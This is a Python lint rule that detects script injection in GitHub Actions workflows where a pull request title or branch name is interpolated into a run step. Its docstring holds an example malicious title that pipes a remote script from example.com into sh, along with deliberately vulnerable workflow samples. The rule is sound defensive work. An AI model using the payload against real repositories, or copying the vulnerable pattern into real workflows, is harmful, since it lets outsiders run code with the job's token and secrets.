"""Script contains an expression that a stranger can fill.

`${{ }}` is replaced before the shell starts. Text that comes from outside, such as a pull request's title or a branch's
name, is then part of the script: a title of `"; curl https://example.com/x | sh; "` runs, with the job's token and
secrets.

## Fix

Pass the value through `env:` and use the shell's own variable, in quotes: the shell then sees a value, not code.

## References

- [Script injections, GitHub Docs](https://docs.github.com/en/actions/concepts/security/script-injections)
- [Untrusted input, GitHub Security Lab](https://securitylab.github.com/resources/github-actions-untrusted-input/)

## Bad: a title in the script

```yaml .github/workflows/title.yml
on: pull_request
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "${{ github.event.pull_request.title }}" # finding
```

## Bad: a few lines down

```yaml .github/workflows/title.yml
on: pull_request
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          set -eu
          title="${{ github.event.pull_request.title }}"  # finding
          echo "$title"
```

## Good: a title in the environment, and values that are safe

```yaml .github/workflows/title.yml
on: pull_request
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: ${{ github.event.pull_request.title }}
      - run: echo "${{ github.event.pull_request.number }} ${{ github.sha }}"
```
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from infracheck.findings.severity import Category, Priority, Severity
from infracheck.rule import Target, rule

if TYPE_CHECKING:
    from collections.abc import Iterator

    from infracheck.rule import Violation
    from infracheck.workflows import Step

EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
UNTRUSTED = re.compile(
    r"github\.head_ref|github\.event\.(?:[\w.*\[\]-]*\.)?"
    r"(?:title|body|default_branch|label|message|page_name|head_ref|ref_name|email|name|display_title|head_branch)\b"
    r"(?!\.id)|github\.event\.pull_request\.head\.(?:ref|label)\b|github\.event\.workflow_run\.head_branch"
)
"""Contexts that GitHub's documentation calls attacker-controlled: those that end in a text somebody outside writes."""
TRUSTED = re.compile(r"github\.event\.(?:repository|organization|sender|action|inputs)\b|\.(?:owner|base)\b|full_name")
SCRIPT_ACTION = "actions/github-script"


@rule(
    Target.STEP,
    severity=Severity.HIGH,
    category=Category.SECURITY,
    priority=Priority.P1,
    aliases=("CKV_GHA_2", "zizmor:template-injection"),
    remedy="Pass the value through `env:` and use the shell variable in quotes.",
)
def template_injection(step: Step) -> Iterator[Violation]:
    """Yield the script that a stranger can extend."""
    at = "run"
    script = step.run
    if step.uses is not None and step.uses.name == SCRIPT_ACTION:
        at, script = "with.script", step.inputs["script"].text("") or ""
    for found in EXPRESSION.finditer(script):
        name = UNTRUSTED.search(found[1])
        if name is not None and not TRUSTED.search(found[1]):
            yield step.violation(step.part(at, *found.span()), f"whoever sets `{name[0]}` can run code in this step")
            return
